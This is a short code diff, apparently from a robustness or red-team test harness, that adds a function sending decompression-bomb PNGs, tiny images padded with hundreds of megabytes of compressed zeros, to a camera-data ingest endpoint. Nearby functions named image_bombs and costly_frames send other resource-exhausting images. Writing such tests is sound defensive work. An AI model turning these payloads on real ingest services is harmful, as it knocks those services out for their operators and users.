@@ -208,6 +208,14 @@ def image_bombs(endpoint: str, victim: str, count: int = 4) -> None:
                                encoding=bombs[k % 2][0]), bombs[k % 2][1]) for k in range(count)])
 
 
+def padded_pngs(endpoint: str, victim: str, seconds: float = 4.0, pad_mb: int = 200) -> None:
+    """A camera of 64 x 64 PNGs at 10 fps whose image data goes on with `pad_mb` MB of compressed zeros
+    (ingest cannot tell: only inflating shows it; ~0.4 s per frame for 200 MB, 17 s for 8 MB on the wire)."""
+    png = padded_png(64, pad_mb)
+    _send_all(endpoint, [(dict(device=f"{ATTACKER}-png", sensor="camera", seq=k, t_ns=START_NS + k * SECOND // 10,
+                               encoding="png"), png) for k in range(int(seconds * 10))])
+
+
 def costly_frames(endpoint: str, victim: str, seconds: float = 6.0, speed: float = 5.0) -> None:
     """Valid 4096 x 4096 progressive JPEGs at 30 fps, sent at `speed` x real time: within every limit, but
     each sampled frame (2 a second) costs ~0.15 s to decode."""
